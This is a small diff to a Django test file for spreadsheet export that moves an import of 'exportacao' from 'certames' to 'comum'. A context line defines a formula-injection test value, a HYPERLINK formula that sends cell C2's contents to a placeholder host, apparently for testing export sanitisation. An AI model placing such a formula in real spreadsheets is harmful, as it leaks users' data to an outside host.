@@ -12,8 +12,8 @@ from django.template.loader import render_to_string
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from certames import exportacao
 from certames.classificacao import recalcular
+from comum import exportacao
 from tests.factories import CandidatoFactory, CargoFactory, CertameFactory, InscricaoFactory
 
 FORMULA = '=HYPERLINK("http://x/?"&C2,"Ver")'
